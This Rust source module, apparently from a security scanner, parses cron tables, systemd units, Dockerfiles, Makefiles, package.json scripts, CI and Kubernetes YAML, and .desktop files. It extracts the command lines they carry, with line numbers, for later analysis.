//! Carriers: files that hold command lines without being scripts. Each is
//! cut into segments of shell (or batch/PowerShell) text with the line they
//! start on: cron entries (schedule and, in system crontabs, the user field
//! dropped), systemd `Exec*=` values, Dockerfile `RUN`/`CMD`/`ENTRYPOINT`/
//! `HEALTHCHECK`/`ADD` (shell and exec forms, `SHELL` honoured), Makefile
//! recipes, package.json `scripts`, YAML `command`/`args`/`run`/`script`
//! values, `.desktop` `Exec=` lines.

use super::Lang;

/// A run of command text in a carrier.
#[derive(Debug, PartialEq, Eq)]
pub struct Segment {
    pub lang: Lang,
    pub text: String,
    pub line: usize,
}

fn seg(lang: Lang, text: impl Into<String>, line: usize) -> Segment {
    Segment {
        lang,
        text: text.into(),
        line,
    }
}

/// Logical lines: `\` continuations joined; (first line number, text).
fn logical_lines(text: &str, cont: char) -> Vec<(usize, String)> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut start = 1;
    for (n, raw) in text.lines().enumerate() {
        if cur.is_empty() {
            start = n + 1;
        }
        let t = raw.trim_end();
        if let Some(head) = t.strip_suffix(cont) {
            cur.push_str(head);
            cur.push(' ');
            continue;
        }
        cur.push_str(t);
        out.push((start, std::mem::take(&mut cur)));
    }
    if !cur.is_empty() {
        out.push((start, cur));
    }
    out
}

fn is_schedule_field(f: &str) -> bool {
    !f.is_empty()
        && f.bytes().all(|b| {
            b.is_ascii_alphanumeric()
                || matches!(b, b'*' | b'/' | b',' | b'-' | b'?' | b'L' | b'W' | b'#')
        })
        && (f.bytes().any(|b| b.is_ascii_digit() || b == b'*')
            || matches!(
                f.to_ascii_lowercase().get(..3),
                Some(
                    "jan"
                        | "feb"
                        | "mar"
                        | "apr"
                        | "may"
                        | "jun"
                        | "jul"
                        | "aug"
                        | "sep"
                        | "oct"
                        | "nov"
                        | "dec"
                        | "mon"
                        | "tue"
                        | "wed"
                        | "thu"
                        | "fri"
                        | "sat"
                        | "sun"
                )
            ))
}

/// The command of a cron line, or `None` for comments, settings and lines
/// that are not cron entries.
pub fn cron_command<'a>(
    line: &'a str,
    system: bool,
    is_program: &dyn Fn(&str) -> bool,
) -> Option<&'a str> {
    let t = line.trim();
    if t.is_empty() || t.starts_with('#') {
        return None;
    }
    let first = t.split_whitespace().next()?;
    if first.contains('=') && !first.starts_with('@') {
        return None;
    }
    let skip = if first.starts_with('@') {
        1
    } else {
        let fields: Vec<&str> = t.split_whitespace().take(5).collect();
        if fields.len() < 5 || !fields.iter().all(|f| is_schedule_field(f)) {
            return None;
        }
        5
    };
    let mut rest = t;
    for _ in 0..skip {
        rest = rest.trim_start();
        rest = &rest[rest.find(char::is_whitespace).unwrap_or(rest.len())..];
    }
    rest = rest.trim_start();
    // The user field of system crontabs (and of crontab-shaped files found
    // elsewhere, when the word is a user name rather than a program).
    let word = rest.split_whitespace().next().unwrap_or_default();
    let user_like = !word.is_empty()
        && word
            .bytes()
            .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'_' || b == b'-')
        && word.as_bytes()[0].is_ascii_lowercase();
    if user_like && (system || !is_program(word)) && rest.len() > word.len() {
        rest = rest[word.len()..].trim_start();
    }
    (!rest.is_empty()).then_some(rest)
}

/// Does the start of a file look like a crontab?
pub fn looks_like_crontab(head: &str) -> bool {
    let mut entries = 0;
    for l in head.lines().take(20) {
        let t = l.trim();
        if t.is_empty() || t.starts_with('#') {
            continue;
        }
        let first = t.split_whitespace().next().unwrap_or_default();
        if first.contains('=') {
            continue;
        }
        if cron_command(t, false, &|_| true).is_some() && t.split_whitespace().count() >= 6 {
            entries += 1;
        } else if !head.is_empty() {
            return false;
        }
    }
    entries > 0
}

/// Cron file.
pub fn cron(text: &str, system: bool, is_program: &dyn Fn(&str) -> bool) -> Vec<Segment> {
    logical_lines(text, '\\')
        .into_iter()
        .filter_map(|(n, l)| {
            cron_command(&l, system, is_program).map(|c| seg(Lang::Sh, cron_percent(c), n))
        })
        .collect()
}

/// cron's `%`: `\%` is a `%`; a bare `%` ends the command (what follows is
/// its input, read here as more words).
fn cron_percent(c: &str) -> String {
    let mut out = String::with_capacity(c.len());
    let mut chars = c.chars().peekable();
    while let Some(ch) = chars.next() {
        match ch {
            '\\' if chars.peek() == Some(&'%') => {
                out.push('%');
                chars.next();
            }
            '%' => out.push(' '),
            ch => out.push(ch),
        }
    }
    out
}

/// systemd unit or drop-in: `Exec*=` values (`-`, `@`, `+`, `!`, `:`
/// prefixes dropped), `Environment=` settings as variables they use;
/// `StandardOutput=file:PATH` (`append:`, `truncate:`) becomes a
/// redirection of each command's output to PATH.
pub fn unit(text: &str) -> Vec<Segment> {
    let lines = logical_lines(text, '\\');
    let stdout = lines.iter().rev().find_map(|(_, l)| {
        let v = l.trim().strip_prefix("StandardOutput=")?.trim();
        let (op, path) = match v.split_once(':')? {
            ("file" | "truncate", p) => (">", p),
            ("append", p) => (">>", p),
            _ => return None,
        };
        (!path.is_empty() && !path.contains(char::is_whitespace)).then(|| format!(" {op} {path}"))
    });
    let redirect = |v: &str| match &stdout {
        Some(r) => format!("{v}{r}"),
        None => v.to_string(),
    };
    lines
        .into_iter()
        .filter_map(|(n, l)| {
            let (k, v) = l.split_once('=')?;
            let k = k.trim();
            let v = v.trim();
            if k == "Environment" {
                return Some(seg(Lang::Sh, format!("export {v}"), n));
            }
            // systemd's own escapes: `$$` is a `$`, `%%` a `%`.
            let v = v.replace("$$", "$").replace("%%", "%");
            k.starts_with("Exec").then(|| {
                seg(
                    Lang::Sh,
                    redirect(v.trim_start_matches(['-', '@', '+', '!', ':', '|'])),
                    n,
                )
            })
        })
        .collect()
}

/// `.desktop` entry: `Exec=` / `TryExec=` with field codes dropped.
pub fn desktop(text: &str) -> Vec<Segment> {
    text.lines()
        .enumerate()
        .filter_map(|(n, l)| {
            let v = l
                .strip_prefix("Exec=")
                .or_else(|| l.strip_prefix("TryExec="))?;
            let mut s = v.to_string();
            for code in [
                "%f", "%F", "%u", "%U", "%i", "%c", "%k", "%d", "%D", "%n", "%N", "%v", "%m",
            ] {
                s = s.replace(code, "");
            }
            Some(seg(Lang::Sh, s, n + 1))
        })
        .collect()
}

/// A JSON array of strings as shell words.
fn exec_form(v: &str) -> Option<String> {
    let items: Vec<String> = serde_json::from_str(v.trim()).ok()?;
    Some(
        items
            .iter()
            .map(|w| format!("'{}'", w.replace('\'', "'\\''")))
            .collect::<Vec<_>>()
            .join(" "),
    )
}

/// Dockerfile / Containerfile.
pub fn dockerfile(text: &str) -> Vec<Segment> {
    let escape = if text
        .lines()
        .take(5)
        .any(|l| l.trim().to_ascii_lowercase().replace(' ', "") == "#escape=`")
    {
        '`'
    } else {
        '\\'
    };
    let mut shell = Lang::Sh;
    let mut out = Vec::new();
    let (text, heredocs) = dockerfile_heredocs(text);
    // Comment lines inside a continued instruction are dropped.
    let filtered: String = text
        .lines()
        .map(|l| {
            if l.trim_start().starts_with('#') {
                ""
            } else {
                l
            }
        })
        .collect::<Vec<_>>()
        .join("\n");
    for (n, l) in logical_lines(&filtered, escape) {
        let t = l.trim();
        let (kw, mut rest) = match t.split_once(char::is_whitespace) {
            Some((k, r)) => (k.to_ascii_uppercase(), r.trim()),
            None => continue,
        };
        let kw = if kw == "ONBUILD" {
            let (k, r) = rest.split_once(char::is_whitespace).unwrap_or((rest, ""));
            rest = r.trim();
            k.to_ascii_uppercase()
        } else {
            kw
        };
        match kw.as_str() {
            "ARG" | "ENV" => {
                if let Some(words) = env_words(rest) {
                    out.push(seg(Lang::Sh, format!("export {words}"), n));
                }
            }
            "SHELL" => {
                let s = rest.to_ascii_lowercase();
                shell = if s.contains("powershell") || s.contains("pwsh") {
                    Lang::PowerShell
                } else if s.contains("cmd") {
                    Lang::Batch
                } else {
                    Lang::Sh
                };
            }
            "RUN" | "CMD" | "ENTRYPOINT" | "HEALTHCHECK" => {
                out.extend(run_segment(&kw, rest, n, shell, heredocs.get(&n)));
            }
            "ADD" => out.push(seg(Lang::Sh, format!("ADD {rest}"), n)),
            _ => {}
        }
    }
    out
}

/// Files a Dockerfile writes from a here-doc (`COPY <<EOF /etc/cron.d/x`,
/// `ADD --chmod=755 <<X /usr/local/bin/`): (destination path, body, line
/// of the body's first line). A destination ending in `/` is a directory:
/// the file is named by the delimiter.
pub fn dockerfile_files(text: &str) -> Vec<(String, String, usize)> {
    let (_, heredocs) = dockerfile_heredocs(text);
    let mut out = Vec::new();
    for (i, l) in text.lines().enumerate() {
        let mut words = l.split_whitespace();
        let kw = words.next().unwrap_or_default();
        if !(kw.eq_ignore_ascii_case("COPY") || kw.eq_ignore_ascii_case("ADD")) {
            continue;
        }
        let Some((delim, body)) = heredocs.get(&(i + 1)) else {
            continue;
        };
        let words: Vec<&str> = words.filter(|w| !w.starts_with("--")).collect();
        let Some(dest) = words.last().filter(|d| !d.starts_with("<<")) else {
            continue;
        };
        let dest = dest.trim_matches(['"', '\'']);
        let dest = if dest.ends_with('/') {
            format!("{dest}{delim}")
        } else {
            dest.to_string()
        };
        out.push((dest, body.clone(), i + 2));
    }
    out
}

/// The command of a `RUN`/`CMD`/`ENTRYPOINT`/`HEALTHCHECK CMD` at line
/// `n`: shell or exec form, or its here-doc (`(delimiter, body)`).
fn run_segment(
    kw: &str,
    rest: &str,
    n: usize,
    shell: Lang,
    heredoc: Option<&(String, String)>,
) -> Option<Segment> {
    let mut r = rest;
    // Flags: RUN --mount=…, HEALTHCHECK --interval=… CMD …
    while r.starts_with("--") {
        r = r
            .split_once(char::is_whitespace)
            .map(|(_, x)| x.trim())
            .unwrap_or("");
    }
    if kw == "HEALTHCHECK" {
        match r.split_once(char::is_whitespace) {
            Some((c, x)) if c.eq_ignore_ascii_case("CMD") => r = x.trim(),
            _ => return None,
        }
    }
    Some(if let Some((delim, body)) = heredoc {
        // RUN <<EOF (the body is the script) / RUN bash <<EOF
        if r.starts_with("<<") {
            seg(shell, body.clone(), n + 1)
        } else {
            seg(Lang::Sh, format!("{r}\n{body}{delim}\n"), n)
        }
    } else if r.starts_with('[')
        && let Some(words) = exec_form(r)
    {
        seg(Lang::Sh, words, n)
    } else {
        seg(shell, r, n)
    })
}

/// `ARG NAME=value`, `ENV A=1 B=2`, legacy `ENV NAME value`: shell words
/// for `export`; `None` for `ARG NAME` without a default.
fn env_words(rest: &str) -> Option<String> {
    let first = rest.split_whitespace().next()?;
    if first.contains('=') {
        return Some(rest.to_string());
    }
    let value = rest[first.len()..].trim();
    (!value.is_empty()).then(|| format!("{first}='{}'", value.replace('\'', "'\\''")))
}

/// BuildKit here-docs of `RUN` instructions (`RUN <<EOF`, `RUN bash
/// <<'X'`, `RUN python3 <<-EOF`): the text with their bodies blanked (line
/// numbers kept) and, by the instruction's line, the delimiter and body.
fn dockerfile_heredocs(text: &str) -> (String, std::collections::HashMap<usize, (String, String)>) {
    let mut found = std::collections::HashMap::new();
    if !text.contains("<<") {
        return (text.to_string(), found);
    }
    let lines: Vec<&str> = text.lines().collect();
    let mut kept: Vec<&str> = Vec::with_capacity(lines.len());
    let mut i = 0;
    while i < lines.len() {
        kept.push(lines[i]);
        let t = lines[i].trim_start();
        let is_run = ["RUN ", "ONBUILD", "COPY ", "ADD "].iter().any(|kw| {
            t.get(..kw.len())
                .is_some_and(|k| k.eq_ignore_ascii_case(kw))
        });
        let delim = t.split_once("<<").filter(|_| is_run).map(|(_, d)| {
            d.trim_start_matches('-')
                .trim_start_matches(['\'', '"'])
                .chars()
                .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '-'))
                .collect::<String>()
        });
        i += 1;
        let Some(delim) =
            delim.filter(|d| d.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_'))
        else {
            continue;
        };
        let mut body = String::new();
        let start = i;
        while i < lines.len() && lines[i].trim() != delim {
            body.push_str(lines[i]);
            body.push('\n');
            i += 1;
        }
        found.insert(start, (delim, body));
        kept.extend(std::iter::repeat_n("", (i + 1).min(lines.len()) - start));
        i += 1;
    }
    (kept.join("\n"), found)
}

/// Makefile: recipes (tab-indented lines, and `target: deps ; cmd`),
/// `@`/`-`/`+` prefixes and `$$` undone, make variables (`=`, `:=`, `::=`,
/// `?=`, `+=`, `export`/`override`) expanded, `$(shell …)` anywhere run as
/// shell.
pub fn makefile(text: &str) -> Vec<Segment> {
    let lines = logical_lines(text, '\\');
    let vars = make_vars(&lines);
    let mut out = Vec::new();
    let oneshell = lines.iter().any(|(_, l)| l.trim_end() == ".ONESHELL:");
    if oneshell {
        out.extend(oneshell_recipes(&lines, &vars));
    }
    for (n, l) in &lines {
        let recipe = if let Some(r) = l.strip_prefix('\t') {
            Some(r)
        } else if !l.trim_start().starts_with('#') && make_assignment(l).is_none() {
            // target: prerequisites ; recipe
            l.split_once(':')
                .filter(|(t, _)| !t.contains('=') && !t.trim().is_empty())
                .and_then(|(_, r)| r.split_once(';'))
                .map(|(_, r)| r)
        } else {
            None
        };
        let expanded = make_expand(l, &vars, 0);
        for sh in make_shell_calls(&expanded) {
            out.push(seg(Lang::Sh, sh, *n));
        }
        if let Some(r) = recipe.filter(|_| !(oneshell && l.starts_with('\t'))) {
            let r = make_expand(r, &vars, 0);
            let r = r
                .trim_start()
                .trim_start_matches(['@', '-', '+', ' ', '\t']);
            out.push(seg(Lang::Sh, r.replace("$$", "$"), *n));
        }
    }
    out
}

/// Programs a Makefile's `SHELL` may name that read code, not shell, from
/// a recipe under `.ONESHELL`.
const MAKE_INTERPRETERS: &[&str] = &["python", "perl", "ruby", "node", "php"];

/// Under `.ONESHELL:` each recipe (a run of tab lines) is one script: in
/// the shell, or, with `SHELL := python3` (or another interpreter), fed
/// to that interpreter as a here-doc so it is scanned as its own code.
fn oneshell_recipes(
    lines: &[(usize, String)],
    vars: &std::collections::HashMap<String, String>,
) -> Vec<Segment> {
    let shell = vars
        .get("SHELL")
        .map(|s| s.trim().to_string())
        .unwrap_or_default();
    let interp = shell
        .split_whitespace()
        .next()
        .and_then(|p| p.rsplit('/').next())
        .filter(|p| {
            MAKE_INTERPRETERS
                .contains(&p.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.'))
        })
        .map(str::to_string);
    let mut out = Vec::new();
    let mut body = String::new();
    let mut first = 0;
    let flush = |body: &mut String, first: usize, out: &mut Vec<Segment>| {
        if body.is_empty() {
            return;
        }
        let text = match &interp {
            Some(p) => format!("{p} - <<'__MAKE_RECIPE__'\n{body}__MAKE_RECIPE__\n"),
            None => body.clone(),
        };
        out.push(seg(Lang::Sh, text, first));
        body.clear();
    };
    for (n, l) in lines {
        match l.strip_prefix('\t') {
            Some(r) => {
                if body.is_empty() {
                    first = *n;
                }
                let r = make_expand(r, vars, 0).replace("$$", "$");
                let r = if body.is_empty() {
                    r.trim_start_matches(['@', '-', '+', ' ', '\t']).to_string()
                } else {
                    r
                };
                body.push_str(&r);
                body.push('\n');
            }
            None => flush(&mut body, first, &mut out),
        }
    }
    flush(&mut body, first, &mut out);
    out
}

/// `NAME op value` of a make assignment line.
fn make_assignment(l: &str) -> Option<(&str, &str)> {
    if l.starts_with('\t') {
        return None;
    }
    let t = l.trim();
    let t = t
        .strip_prefix("export ")
        .or_else(|| t.strip_prefix("override "))
        .unwrap_or(t);
    let eq = t.find('=')?;
    let name = t[..eq].trim_end_matches([':', '?', '+', '!']).trim();
    let ok = !name.is_empty()
        && name
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.'));
    ok.then(|| (name, t[eq + 1..].trim()))
}

fn make_vars(lines: &[(usize, String)]) -> std::collections::HashMap<String, String> {
    let mut vars = std::collections::HashMap::new();
    for (_, l) in lines {
        if let Some((k, v)) = make_assignment(l) {
            let e = vars.entry(k.to_string()).or_insert_with(String::new);
            if l.contains("+=") && !e.is_empty() {
                e.push(' ');
                e.push_str(v);
            } else {
                *e = v.to_string();
            }
        }
        if vars.len() > 1000 {
            break;
        }
    }
    vars
}

/// `$(NAME)` / `${NAME}` replaced by their values (recursively, a few levels).
fn make_expand(s: &str, vars: &std::collections::HashMap<String, String>, depth: usize) -> String {
    if depth > 4 || !s.contains("$(") && !s.contains("${") {
        return s.to_string();
    }
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(at) = rest.find(['$']) {
        out.push_str(&rest[..at]);
        let tail = &rest[at..];
        let close = match tail.as_bytes().get(1) {
            Some(b'(') => ')',
            Some(b'{') => '}',
            _ => {
                out.push('$');
                rest = &tail[1..];
                continue;
            }
        };
        match tail[2..].find(close).map(|e| &tail[2..2 + e]) {
            Some(name) if vars.contains_key(name) => {
                out.push_str(&make_expand(&vars[name], vars, depth + 1));
                rest = &tail[2 + name.len() + 1..];
            }
            _ => {
                out.push_str(&tail[..2]);
                rest = &tail[2..];
            }
        }
    }
    out.push_str(rest);
    out
}

/// The commands of `$(shell …)` calls in a line.
fn make_shell_calls(l: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut from = 0;
    while let Some(n) = l[from..].find("$(shell ") {
        let start = from + n + 8;
        let mut depth = 1;
        let mut end = l.len();
        for (i, c) in l[start..].char_indices() {
            match c {
                '(' => depth += 1,
                ')' => {
                    depth -= 1;
                    if depth == 0 {
                        end = start + i;
                        break;
                    }
                }
                _ => {}
            }
        }
        out.push(l[start..end].to_string());
        from = end.min(l.len());
        if from >= l.len() {
            break;
        }
    }
    out
}

/// package.json `scripts` values.
pub fn package_json(text: &str) -> Vec<Segment> {
    let Ok(v) = serde_json::from_str::<serde_json::Value>(text) else {
        return Vec::new();
    };
    let Some(scripts) = v.get("scripts").and_then(|s| s.as_object()) else {
        return Vec::new();
    };
    scripts
        .iter()
        .filter_map(|(k, v)| {
            let s = v.as_str()?;
            let key = format!("\"{k}\"");
            let line = text
                .find(&key)
                .map(|at| text[..at].matches('\n').count() + 1)
                .unwrap_or(1);
            Some(seg(Lang::Sh, s, line))
        })
        .collect()
}

const YAML_KEYS: &[&str] = &[
    "command",
    "args",
    "run",
    "script",
    "entrypoint",
    "cmd",
    "test",
    "before_script",
    "after_script",
    "shell",
    "exec",
    "pre_script",
    "post_script",
    "commands",
    "healthcheck",
    "inline",
    // Ansible task modules (the collection prefix is dropped first).
    "raw",
    "win_command",
    // cloud-init user-data.
    "runcmd",
    "bootcmd",
    // CI steps: Azure Pipelines `bash:`, CLI tasks' `inlineScript:`.
    "bash",
    "inlinescript",
    // Taskfile `cmds:`; Travis CI and AppVeyor phases.
    "cmds",
    "before_install",
    "install",
    "after_success",
    "before_deploy",
    "after_deploy",
    "build_script",
    "test_script",
    "on_success",
    "on_finish",
];

/// Keys whose value is PowerShell: Azure Pipelines and GitHub Actions
/// `powershell:`/`pwsh:` steps, Ansible `win_shell`.
const YAML_PS_KEYS: &[&str] = &["powershell", "pwsh", "win_shell", "ps"];

/// The command-like key a YAML key names: lowercase, an Ansible collection
/// prefix (`ansible.builtin.`, `ansible.windows.`) dropped; with the
/// language of its value.
fn yaml_command_key(key: &str) -> Option<Lang> {
    if key.contains(' ') {
        return None;
    }
    let k = key.to_ascii_lowercase();
    let k = k.rsplit('.').next().unwrap_or_default();
    if YAML_PS_KEYS.contains(&k) {
        Some(Lang::PowerShell)
    } else {
        YAML_KEYS.contains(&k).then_some(Lang::Sh)
    }
}

fn yaml_scalar(v: &str) -> String {
    let v = v.trim();
    if let Some(x) = v.strip_prefix('"').and_then(|x| x.strip_suffix('"')) {
        return serde_json::from_str::<String>(&format!("\"{x}\""))
            .unwrap_or_else(|_| x.to_string());
    }
    if let Some(x) = v.strip_prefix('\'').and_then(|x| x.strip_suffix('\'')) {
        return x.replace("''", "'");
    }
    v.to_string()
}

/// A YAML flow sequence `["a", 'b', c]` as words.
fn yaml_flow(v: &str) -> Option<Vec<String>> {
    let inner = v.trim().strip_prefix('[')?.strip_suffix(']')?;
    if let Ok(items) = serde_json::from_str::<Vec<String>>(v.trim()) {
        return Some(items);
    }
    Some(inner.split(',').map(yaml_scalar).collect())
}

fn shell_words(items: &[String]) -> String {
    items
        .iter()
        .map(|w| format!("'{}'", w.replace('\'', "'\\''")))
        .collect::<Vec<_>>()
        .join(" ")
}

/// YAML: values of command-like keys (Kubernetes, compose, CI files).
pub fn yaml(text: &str) -> Vec<Segment> {
    let lines: Vec<&str> = text.lines().collect();
    let mut out = yaml_commands(&lines);
    out.extend(command_with_args(&lines));
    out.extend(fetch_modules(&lines));
    let env = k8s_env(&lines);
    // Kubernetes and compose escape a `$` as `$$` (`$$(cmd)` is the shell's).
    for s in &mut out {
        if s.text.contains("$$") {
            s.text = s.text.replace("$$", "$");
        }
    }
    if !env.is_empty() {
        for s in &mut out {
            for (name, value) in &env {
                let var = format!("$({name})");
                if s.text.contains(&var) {
                    s.text = s.text.replace(&var, value);
                }
            }
        }
    }
    out
}

/// Kubernetes `env:` entries (`- name: X` then `value: Y`), which the
/// kubelet expands as `$(X)` in `command`/`args`; at most 256.
fn k8s_env(lines: &[&str]) -> Vec<(String, String)> {
    let mut env = Vec::new();
    for w in lines.windows(2) {
        let Some(name) = w[0].trim_start().strip_prefix("- name:") else {
            continue;
        };
        let Some(value) = w[1].trim_start().strip_prefix("value:") else {
            continue;
        };
        let name = yaml_scalar(name.trim());
        if !name.is_empty()
            && name
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || "_.-".contains(c))
        {
            env.push((name, yaml_scalar(value.trim())));
        }
        if env.len() >= 256 {
            break;
        }
    }
    env
}

fn yaml_commands(lines: &[&str]) -> Vec<Segment> {
    let mut out = Vec::new();
    let mut i = 0;
    while i < lines.len() {
        let l = lines[i];
        let t = l.trim_start().trim_start_matches("- ").trim_start();
        let Some((key, value)) = t.split_once(':') else {
            i += 1;
            continue;
        };
        let key = key.trim().trim_matches(['"', '\'']);
        let Some(lang) = yaml_command_key(key) else {
            i += 1;
            continue;
        };
        let lang = if key == "run" {
            step_shell(lines, i).unwrap_or(lang)
        } else {
            lang
        };
        let value = value.trim();
        let base = l.len() - l.trim_start().len();
        let line_no = i + 1;
        i += 1;
        if value.starts_with('[') {
            let (value, next) = flow_lines(lines, i, value);
            i = next;
            if let Some(items) = yaml_flow(&value) {
                push_items(&items, &[line_no], &mut out);
            }
        } else if value.starts_with('|') || value.starts_with('>') {
            let (body, next) = block(lines, i, base);
            out.push(seg(lang, folded(value, body), line_no + 1));
            i = next;
        } else if value.is_empty() || value.starts_with('#') {
            i = yaml_items(lines, i, base, lang, &mut out);
        } else {
            out.push(seg(lang, yaml_scalar(value), line_no));
        }
    }
    out
}

/// The language a GitHub Actions step's `shell:` sibling names for its
/// `run:` at line `i` (`pwsh`/`powershell`, `cmd`).
fn step_shell(lines: &[&str], i: usize) -> Option<Lang> {
    let (col, _) = yaml_key(lines[i])?;
    let at = sibling_key(lines, i, col, "shell")?;
    let v = yaml_scalar(lines[at].split_once(':')?.1).to_ascii_lowercase();
    match v.split_whitespace().next()? {
        "pwsh" | "powershell" => Some(Lang::PowerShell),
        "cmd" => Some(Lang::Batch),
        _ => None,
    }
}

/// A block scalar's text: a folded one (`>`) is one line per paragraph.
fn folded(indicator: &str, body: String) -> String {
    if !indicator.starts_with('>') {
        return body;
    }
    body.split("\n\n")
        .map(|p| p.lines().collect::<Vec<_>>().join(" "))
        .collect::<Vec<_>>()
        .join("\n")
}

/// The block sequence under a command key at column `base`, from line `i`:
/// each item is one command (a block scalar, a flow sequence of words as
/// cloud-init writes `- [ sh, -c, "…" ]`, or a scalar); all the scalar
/// items together are also one command (Kubernetes `command:` lists).
/// Returns the line after the sequence.
fn yaml_items(
    lines: &[&str],
    mut i: usize,
    base: usize,
    lang: Lang,
    out: &mut Vec<Segment>,
) -> usize {
    let indent = |l: &str| l.len() - l.trim_start().len();
    let mut items = Vec::new();
    let mut item_lines = Vec::new();
    while i < lines.len() {
        let li = lines[i];
        if li.trim().is_empty() {
            i += 1;
            continue;
        }
        let it = li.trim_start();
        if indent(li) < base || !it.starts_with('-') {
            break;
        }
        let item = it[1..].trim();
        item_lines.push(i + 1);
        if item.starts_with('|') || item.starts_with('>') {
            let (body, next) = block(lines, i + 1, indent(li));
            let body = folded(item, body);
            out.push(seg(lang, body.clone(), i + 2));
            items.push(body);
            i = next;
        } else if let Some((k, v)) = item.split_once(':')
            && let Some(item_lang) = yaml_command_key(k.trim())
            && !v.trim().is_empty()
            && !v.trim().starts_with(['|', '>', '['])
        {
            // An item that is a step of its own (AppVeyor `- ps: …`, `- cmd: …`).
            out.push(seg(item_lang, yaml_scalar(v), i + 1));
            i += 1;
        } else if item.starts_with('[') {
            let (value, next) = flow_lines(lines, i + 1, item);
            if let Some(words) = yaml_flow(&value) {
                push_items(&words, &[i + 1], out);
            }
            i = next.max(i + 1);
        } else {
            items.push(yaml_scalar(item));
            i += 1;
        }
    }
    if !items.is_empty() {
        push_items(&items, &item_lines, out);
    }
    i
}

/// Files a YAML document writes from its own text: cloud-init
/// `write_files` items (`path:` + `content: |`) and Ansible `copy` tasks
/// (`dest:` + `content: |`): (destination path, body, line of the body's
/// first line), for the caller to read as the carrier the path is.
pub fn yaml_files(text: &str) -> Vec<(String, String, usize)> {
    let lines: Vec<&str> = text.lines().collect();
    let mut out = Vec::new();
    for (i, l) in lines.iter().enumerate() {
        let Some((col, "content")) = yaml_key(l) else {
            continue;
        };
        let value = l.split_once(':').map(|(_, v)| v.trim()).unwrap_or_default();
        let Some(dest) = ["path", "dest"]
            .iter()
            .find_map(|k| sibling_key(&lines, i, col, k))
        else {
            continue;
        };
        let path = yaml_scalar(
            lines[dest]
                .split_once(':')
                .map(|(_, v)| v)
                .unwrap_or_default(),
        );
        if !path.starts_with('/') {
            continue;
        }
        let body = if value.starts_with('|') || value.starts_with('>') {
            folded(value, block(&lines, i + 1, col).0)
        } else {
            yaml_scalar(value)
        };
        out.push((path, body, i + 2));
        if out.len() >= 256 {
            break;
        }
    }
    out
}

/// Ansible modules that fetch a URL to the managed host: their name
/// (collection prefix dropped), the key naming the source, and whether a
/// `dest:` is needed for it to be a download (`uri` without one is a plain
/// HTTP request).
const FETCH_MODULES: &[(&str, &str, bool)] = &[
    ("get_url", "url", false),
    ("win_get_url", "url", false),
    ("uri", "url", true),
    ("win_uri", "url", true),
    ("unarchive", "src", false),
];

/// Ansible fetch modules (`get_url:` with `url:` and `dest:` below it, or
/// inline `get_url: url=… dest=…`) as a command `MODULE 'URL' 'DEST'` at
/// the line of the source; the catalogue knows the module names.
fn fetch_modules(lines: &[&str]) -> Vec<Segment> {
    let mut out = Vec::new();
    for (i, l) in lines.iter().enumerate() {
        let Some((col, key)) = yaml_key(l) else {
            continue;
        };
        let module = key.to_ascii_lowercase();
        let module = module.rsplit('.').next().unwrap_or_default();
        let Some(&(name, src_key, needs_dest)) = FETCH_MODULES.iter().find(|m| m.0 == module)
        else {
            continue;
        };
        let value = l.split_once(':').map(|(_, v)| v.trim()).unwrap_or_default();
        let (mut src, mut dest, mut at) = (None, None, i + 1);
        if value.is_empty() || value.starts_with('#') {
            for (k, c) in lines.iter().enumerate().skip(i + 1).take(MAX_MAPPING_LINES) {
                let t = c.trim_start();
                if t.is_empty() || t.starts_with('#') {
                    continue;
                }
                if c.len() - t.len() <= col {
                    break;
                }
                match t.split_once(':') {
                    Some((k2, v)) if k2.trim() == src_key => {
                        (src, at) = (Some(yaml_scalar(v)), k + 1)
                    }
                    Some((k2, v)) if k2.trim() == "dest" => dest = Some(yaml_scalar(v)),
                    _ => {}
                }
            }
        } else {
            for w in value.split_whitespace() {
                match w.split_once('=') {
                    Some((k2, v)) if k2 == src_key => src = Some(yaml_scalar(v)),
                    Some(("dest", v)) => dest = Some(yaml_scalar(v)),
                    _ => {}
                }
            }
        }
        let Some(src) = src else { continue };
        if needs_dest && dest.is_none() {
            continue;
        }
        // A program name no shell or code string uses (`uri` alone would
        // match prose about URIs).
        let words = [
            format!("ansible.builtin.{name}"),
            src,
            dest.unwrap_or_default(),
        ];
        out.push(seg(Lang::Sh, shell_words(&words), at));
    }
    out
}

/// The column of a line's mapping key (past a `- ` item marker) and the key.
fn yaml_key(l: &str) -> Option<(usize, &str)> {
    let t = l.trim_start();
    let col = l.len() - t.len();
    let (col, t) = match t.strip_prefix("- ") {
        Some(r) => (col + 2 + (r.len() - r.trim_start().len()), r.trim_start()),
        None => (col, t),
    };
    let (key, _) = t.split_once(':')?;
    Some((col, key.trim().trim_matches(['"', '\''])))
}

/// The items of the sequence a key at line `i` holds (flow `[…]` or a
/// block of `- item` lines), with their line numbers.
fn sequence_at(lines: &[&str], i: usize, col: usize) -> Option<(Vec<String>, Vec<usize>)> {
    let value = lines[i].split_once(':')?.1.trim();
    if value.starts_with('[') {
        let (value, _) = flow_lines(lines, i + 1, value);
        return yaml_flow(&value).map(|items| (items, vec![i + 1]));
    }
    if !(value.is_empty() || value.starts_with('#')) {
        return None;
    }
    let (mut items, mut at) = (Vec::new(), Vec::new());
    for (k, l) in lines.iter().enumerate().skip(i + 1) {
        let t = l.trim_start();
        if t.is_empty() {
            continue;
        }
        if l.len() - t.len() < col || !t.starts_with('-') {
            break;
        }
        items.push(yaml_scalar(t[1..].trim()));
        at.push(k + 1);
    }
    (!items.is_empty()).then_some((items, at))
}

/// A container's `command:` and its sibling `args:` (before or after it,
/// same mapping): the program and its arguments, run as one command.
fn command_with_args(lines: &[&str]) -> Vec<Segment> {
    let mut out = Vec::new();
    for (i, l) in lines.iter().enumerate() {
        let Some((col, "command")) = yaml_key(l) else {
            continue;
        };
        let args = sibling_key(lines, i, col, "args");
        let (Some(args), Some((mut items, mut at))) = (args, sequence_at(lines, i, col)) else {
            continue;
        };
        if let Some((more, more_at)) = sequence_at(lines, args, col) {
            items.extend(more);
            at.extend(more_at);
            push_items(&items, &at, &mut out);
        }
    }
    out
}

